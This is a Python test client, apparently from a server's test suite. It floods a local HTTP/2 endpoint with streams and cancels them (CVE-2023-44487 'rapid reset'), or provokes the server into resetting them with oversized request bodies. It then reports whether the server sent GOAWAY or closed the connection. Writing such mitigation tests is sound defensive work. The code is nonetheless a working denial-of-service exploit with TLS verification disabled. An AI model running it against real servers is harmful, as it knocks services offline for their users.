"""An abusive HTTP/2 client for the data-plane tests (run with /usr/bin/python3, Debian's
python3-h2): opens streams and cancels each at once (CVE-2023-44487, "rapid reset"), or with
MODE "provoke" makes the server reset each one itself by sending more body than the declared
content-length (CVE-2025-8671, "MadeYouReset"); then reads until the server ends the
connection. Prints "GOAWAY <error code>" or "CLOSED".

usage: h2_rapid_reset_client.py PORT SNI COUNT [MODE]
"""
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events


def main():
    port, sni, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    provoke = len(sys.argv) > 4 and sys.argv[4] == "provoke"
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=sni)
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", sni), (":path", "/hold")]
    if provoke:
        headers = [(":method", "POST"), (":scheme", "https"), (":authority", sni), (":path", "/hold"),
                   ("content-length", "5")]
    for _ in range(count):
        stream_id = conn.get_next_available_stream_id()
        if provoke:
            conn.send_headers(stream_id, headers, end_stream=False)
            conn.send_data(stream_id, b"0123456789", end_stream=True)  # 10 bytes of a declared 5
        else:
            conn.send_headers(stream_id, headers, end_stream=True)
            conn.reset_stream(stream_id, error_code=8)  # CANCEL
    sock.sendall(conn.data_to_send())
    sock.settimeout(20)
    while True:
        data = sock.recv(65536)
        if not data:
            print("CLOSED")
            return
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ConnectionTerminated):
                print("GOAWAY %d" % event.error_code)
                return


if __name__ == "__main__":
    main()
